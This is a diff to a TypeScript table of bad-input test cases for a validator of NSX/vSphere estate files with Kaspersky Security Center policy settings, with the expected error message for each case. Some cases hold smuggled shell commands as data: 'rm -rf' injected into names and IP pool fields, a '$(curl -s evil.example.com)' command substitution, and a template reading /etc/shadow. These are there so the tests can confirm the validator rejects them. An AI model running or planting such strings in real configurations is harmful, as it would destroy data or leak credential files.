@@ -26,6 +26,11 @@ export interface BadInputCase {
   readonly alsoSays?: RegExp;
   /** Must not appear anywhere in the output (secrets a user typed where they do not belong). */
   readonly neverShown?: readonly string[];
+  /**
+   * How many problems the input has in all (default 1), so that a case fails for its own reason
+   * and not also for another: a stale corpus file cannot pass on a message it was not written for.
+   */
+  readonly problems?: number;
 }
 
 const corpus = (name: string, at: string, message: string | RegExp, extra = {}): BadInputCase => ({
@@ -36,11 +41,30 @@ const corpus = (name: string, at: string, message: string | RegExp, extra = {}):
 });
 
 const INVALID_HOST = "is not a valid host name or IPv4 address";
+const INVALID_NAME = "is not a valid vSphere name";
 const NOT_A_NETWORK = "is not an IPv4 or IPv6 network in CIDR notation (e.g. 10.0.5.0/24)";
+const NOT_A_WEB_ADDRESS =
+  "is not a web address or mask (e.g. https://intranet.example.local/ or *.example.com/*)";
+const NOT_A_RULE_ID =
+  "is not a detection rule ID; write it as Kaspersky Security Center events show it, <number>:<number>:<number>";
+const BLOCK_MINUTES_UNUSED =
+  "only applies when networkAttack.action or networkActivity.action is terminate-and-block; remove it or change an action";
+const VLAN_VALUES =
+  'must be "none" (traffic without a VLAN tag), a VLAN ID from 1 to 4094, or "any" (traffic with any tag: the product\'s vlan 4095)';
+const EXCLUSION = "managers[0].policy.exclusions";
 
 function example(): string {
   return fs.readFileSync(EXAMPLE_ESTATE, "utf8");
 }
+
+/** Line and column (1-based) where `text` first appears in the example estate. */
+function exampleLocation(text: string): { line: number; column: number } {
+  const before = example().slice(0, example().indexOf(text)).split("\n");
+  return { line: before.length, column: before[before.length - 1].length + 1 };
+}
+
+/** Where the Latin-1 case below writes its cluster name. */
+const PROD_A = exampleLocation("name: prod-a");
 
 /**
  * A small valid estate, for the cases that cannot be files in the repository: Prettier checks
@@ -100,7 +124,10 @@ export const BAD_INPUT_CASES: readonly BadInputCase[] = [
     "60-json-hosts-numbers.json",
     "managers[0].clusters[0].hosts[1]",
     "expected a text value, got 10",
-    { alsoSays: /managers\[0\]\.clusters\[0\]\.hosts\[2\]: expected a text value, got 3\.5/ },
+    {
+      alsoSays: /managers\[0\]\.clusters\[0\]\.hosts\[2\]: expected a text value, got 3\.5/,
+      problems: 2,
+    },
   ),
   corpus(
     "18-kind-uppercase.yaml",
@@ -129,8 +156,13 @@ export const BAD_INPUT_CASES: readonly BadInputCase[] = [
   corpus(
     "14-unknown-nested-key.yaml",
     "managers[0].clusters[0].host",
-    'unknown key "host"; did you mean "hosts"? (allowed here: name, datastore, network, hosts)',
-    { alsoSays: /managers\[0\]\.clusters\[0\]\.hosts: is required/ },
+    'unknown key "host"; did you mean "hosts"? (allowed here: name, datastore, network, ipPool, hosts)',
+    { alsoSays: /managers\[0\]\.clusters\[0\]\.hosts: is required/, problems: 2 },
+  ),
+  corpus(
+    "88-unknown-hook-typo.yaml",
+    "hooks.createSegmnt",
+    'unknown key "createSegmnt"; did you mean "createSegment"?',
   ),
   corpus(
     "15-unknown-policy-key.yaml",
@@ -141,7 +173,8 @@ export const BAD_INPUT_CASES: readonly BadInputCase[] = [
     "16-password-in-manager.yaml",
     "managers[0].password",
     'unknown key "password"; the estate holds no credentials: hooks read them from the environment of terraform',
-    { neverShown: ["Secr3t-in-estate"] },
+    // username too: the same answer for each
+    { neverShown: ["Secr3t-in-estate"], problems: 2 },
   ),
   corpus("17-password-in-ksc.json", "ksc.password", 'unknown key "password"', {
     neverShown: ["Secr3t-in-ksc"],
@@ -212,6 +245,22 @@ export const BAD_INPUT_CASES: readonly BadInputCase[] = [
     "53-manager-name-shell.yaml",
     "managers[0].name",
     `must be lowercase letters, digits and '-', starting with a letter (at most 63); got "dc1; rm -rf ~"`,
+    {
+      alsoSays: new RegExp(
+        `managers\\[0\\]\\.address: "nsx.'dc1; rm -rf ~'.example.local" ${INVALID_HOST}`,
+      ),
+      problems: 2,
+    },
+  ),
+  corpus(
+    "86-ip-pool-semicolon.yaml",
+    "managers[0].clusters[0].ipPool",
+    `"svm-pool; rm -rf /" ${INVALID_NAME}`,
+  ),
+  corpus(
+    "87-ip-pool-newline.yaml",
+    "managers[0].clusters[0].ipPool",
+    `"svm-pool\\nrm -rf /" ${INVALID_NAME}`,
   ),
 
   // Numbers and URLs
@@ -250,8 +299,13 @@ export const BAD_INPUT_CASES: readonly BadInputCase[] = [
   ),
   corpus(
     "34-block-minutes-with-terminate.yaml",
-    "managers[0].policy.networkAttack.blockMinutes",
-    "only applies to action terminate-and-block (action is terminate); remove it or change the action",
+    "managers[0].policy.blockMinutes",
+    BLOCK_MINUTES_UNUSED,
+  ),
+  corpus(
+    "68-block-minutes-nothing-blocks.yaml",
+    "managers[0].policy.blockMinutes",
+    BLOCK_MINUTES_UNUSED,
   ),
   corpus(
     "45-pg-schema-too-long.yaml",
@@ -264,26 +318,129 @@ export const BAD_INPUT_CASES: readonly BadInputCase[] = [
     `"estate" keeps every stack's state in one schema`,
   ),
 
-  // Networks
+  // Networks: an exclusion's source, one address or a subnet
   corpus(
     "35-cidr-host-bits.yaml",
-    "managers[0].policy.exclusions[1].cidr",
+    `${EXCLUSION}[1].source`,
     '"10.0.5.1/24" has host bits set; did you mean 10.0.5.0/24?',
   ),
+  corpus("36-cidr-prefix-33.yaml", `${EXCLUSION}[1].source`, `"10.0.5.0/33" ${NOT_A_NETWORK}`),
+  corpus("37-cidr-garbage.yaml", `${EXCLUSION}[1].source`, `"office-lan/24" ${NOT_A_NETWORK}`),
+  corpus("57-ipv6-prefix-129.yaml", `${EXCLUSION}[1].source`, `"fd00::/129" ${NOT_A_NETWORK}`),
   corpus(
-    "36-cidr-prefix-33.yaml",
-    "managers[0].policy.exclusions[1].cidr",
-    `"10.0.5.0/33" ${NOT_A_NETWORK}`,
+    "83-exclusion-source-garbage.yaml",
+    `${EXCLUSION}[0].source`,
+    '"office-printer" is not an IP address or a subnet (e.g. 10.0.5.7, 10.0.5.0/24, fd00::/64)',
   ),
   corpus(
-    "37-cidr-garbage.yaml",
-    "managers[0].policy.exclusions[1].cidr",
-    `"office-lan/24" ${NOT_A_NETWORK}`,
+    "84-exclusion-ipv6-host-bits.yaml",
+    `${EXCLUSION}[0].source`,
+    '"fd00:5::1/64" has host bits set; did you mean fd00:5::/64?',
+  ),
+
+  // Exclusions: VLAN, rule, scope
+  corpus(
+    "77-exclusion-vlan-4095.yaml",
+    `${EXCLUSION}[0].vlan`,
+    'VLAN 4095 means any tag: write "any"',
   ),
   corpus(
-    "57-ipv6-prefix-129.yaml",
-    "managers[0].policy.exclusions[1].cidr",
-    `"fd00::/129" ${NOT_A_NETWORK}`,
+    "78-exclusion-vlan-0.yaml",
+    `${EXCLUSION}[0].vlan`,
+    'traffic without a VLAN tag is "none"',
+  ),
+  corpus("79-exclusion-vlan-5000.yaml", `${EXCLUSION}[0].vlan`, VLAN_VALUES),
+  corpus("80-exclusion-vlan-text.yaml", `${EXCLUSION}[0].vlan`, VLAN_VALUES),
+  corpus(
+    "81-exclusion-rule-missing.yaml",
+    `${EXCLUSION}[0].rule`,
+    "is required (one of default, do-not-scan, do-not-block)",
+  ),
+  corpus(
+    "82-exclusion-rule-unknown.yaml",
+    `${EXCLUSION}[0].rule`,
+    'must be one of default, do-not-scan, do-not-block; got the text "skip"',
+  ),
+  // The later rule is the one reported; a vlan left out is "none".
+  corpus(
+    "85-exclusion-duplicate-scope.yaml",
+    `${EXCLUSION}[2]`,
+    "has the scope of exclusions[0] (10.0.5.0/24, vlan none), which comes first and wins: this rule never applies",
+  ),
+
+  // Threat policy: actions, block time, detection rules, trusted web addresses
+  corpus(
+    "67-network-activity-action-block.yaml",
+    "managers[0].policy.networkActivity.action",
+    '"block" is now "terminate-and-block" (terminate the connection and block traffic from the source for policy.blockMinutes)',
+  ),
+  corpus(
+    "69-block-minutes-zero.yaml",
+    "managers[0].policy.blockMinutes",
+    "must be at least 1, got 0",
+  ),
+  corpus(
+    "70-block-minutes-over-a-week.yaml",
+    "managers[0].policy.blockMinutes",
+    "must be at most 10080, got 10081",
+  ),
+  corpus(
+    "71-ignored-rule-format.yaml",
+    "managers[0].policy.networkActivity.ignoredRules[1]",
+    `"Exploit.Win32.CVE-2017-0144" ${NOT_A_RULE_ID}`,
+  ),
+  corpus(
+    "72-ignored-rule-duplicate.yaml",
+    "managers[0].policy.networkActivity.ignoredRules[2]",
+    '"3:1:2" is listed twice',
+  ),
+  corpus(
+    "73-trusted-address-space.yaml",
+    "managers[0].policy.webAddresses.trustedAddresses[1]",
+    `"https://intranet.example.local/my docs/" ${NOT_A_WEB_ADDRESS}`,
+  ),
+  corpus(
+    "74-trusted-address-command-substitution.yaml",
+    "managers[0].policy.webAddresses.trustedAddresses[0]",
+    `"https://$(curl -s evil.example.com)/" ${NOT_A_WEB_ADDRESS}`,
+  ),
+  corpus(
+    "75-trusted-address-template.yaml",
+    "managers[0].policy.webAddresses.trustedAddresses[0]",
+    `"https://\${file(\\"/etc/shadow\\")}.example.local/" ${NOT_A_WEB_ADDRESS}`,
+  ),
+  corpus(
+    "76-trusted-address-duplicate.yaml",
+    "managers[0].policy.webAddresses.trustedAddresses[2]",
+    '"*.example.com/*" is listed twice',
+  ),
+
+  // Removed fields: the error names what replaced them
+  corpus(
+    "62-exclusion-cidr-removed.yaml",
+    `${EXCLUSION}[0].cidr`,
+    '"cidr" was removed: use source (an IP address or subnet, e.g. 10.0.5.0/24)',
+    { alsoSays: /managers\[0\]\.policy\.exclusions\[0\]\.source: is required/, problems: 2 },
+  ),
+  corpus(
+    "63-exclusion-direction-removed.yaml",
+    `${EXCLUSION}[0].direction`,
+    '"direction" was removed: Kaspersky Security Center exclusions have no direction; remove it, and exclude inbound or outbound traffic in the NSX policy instead',
+  ),
+  corpus(
+    "64-network-attack-block-minutes-removed.yaml",
+    "managers[0].policy.networkAttack.blockMinutes",
+    '"blockMinutes" was removed: set policy.blockMinutes instead: one block time for network attacks and suspicious network activity',
+  ),
+  corpus(
+    "65-hook-deploy-svm-removed.yaml",
+    "hooks.deploySvm",
+    '"deploySvm" was removed: use deploySvms: NSX deploys SVMs per vSphere cluster, so the hook runs once per cluster',
+  ),
+  corpus(
+    "66-hook-remove-svm-removed.yaml",
+    "hooks.removeSvm",
+    '"removeSvm" was removed: use removeSvms: it runs once per cluster',
   ),
 
   // Syntax and the file itself
@@ -393,8 +550,10 @@ export const BAD_INPUT_CASES: readonly BadInputCase[] = [
         Buffer.from(example().replace("name: prod-a", "name: Zürich"), "latin1"),
       ),
     path: "(file)",
-    message:
-      /^is not UTF-8 text \(byte 0xfc at offset \d+\); save it as UTF-8 \(line 30, column 16\)$/,
+    // At the ü of "name: Zürich".
+    message: new RegExp(
+      `^is not UTF-8 text \\(byte 0xfc at offset \\d+\\); save it as UTF-8 \\(line ${PROD_A.line}, column ${PROD_A.column + "name: Z".length}\\)$`,
+    ),
   },
   {
     name: "UTF-16 (an editor's 'Unicode')",
@@ -428,6 +587,7 @@ export const BAD_INPUT_CASES: readonly BadInputCase[] = [
     },
     path: "managers[1].clusters[0].hosts[0]",
     message: `"vm_host_0" ${INVALID_HOST}`,
+    problems: 5000,
     alsoSays:
       /^ksv synth: .*inventory\.yaml: 5000 problems:$[\s\S]*^ {2}\.\.\. and 4900 more; fix these first/m,
   },
